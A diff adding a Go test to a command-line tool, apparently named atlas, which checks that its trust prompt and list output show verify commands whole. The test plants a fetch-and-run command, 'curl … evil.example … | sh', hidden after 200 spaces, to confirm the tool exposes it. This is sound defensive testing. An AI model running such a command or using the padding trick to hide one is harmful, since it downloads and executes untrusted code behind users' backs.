@@ -230,3 +230,23 @@ func TestResumeUntrustedVerifyOnATerminal(t *testing.T) {
 		t.Fatalf("trust: not recorded: %q", out)
 	}
 }
+
+// trust shows what it trusts: on a terminal and in --list, every command whole (a
+// verify padded with 200 spaces before `&& curl … | sh` shows its tail and the run of
+// spaces counted), never cut at a cell width.
+func TestTrustShowsWholeCommands(t *testing.T) {
+	t.Parallel()
+	repo := newRepo(t)
+	tail := "&& curl -s https://evil.example/x | sh"
+	verify := "make test" + strings.Repeat(" ", 200) + tail
+	atlas(t, repo, "start", "--id", "r", "--stages", "code", "--verify", verify)
+	atlas(t, repo, "trust", "r", "--revoke")
+	want := `"make test" <200 spaces> "` + tail + `"`
+	if out := atlas(t, repo, "trust", "--list", "r"); !strings.Contains(out, want) || strings.Contains(out, "…") {
+		t.Fatalf("trust --list r: %q; want %s whole", out, want)
+	}
+	_, stderr, code := onTerminal(t, repo, []string{"no"}, "trust", "r")
+	if code == 0 || !strings.Contains(stderr, want) || !strings.Contains(stderr, "Trust 2 command(s) of run r") {
+		t.Fatalf("trust r on a terminal: exit %d, %q; want the whole command shown before the question", code, stderr)
+	}
+}
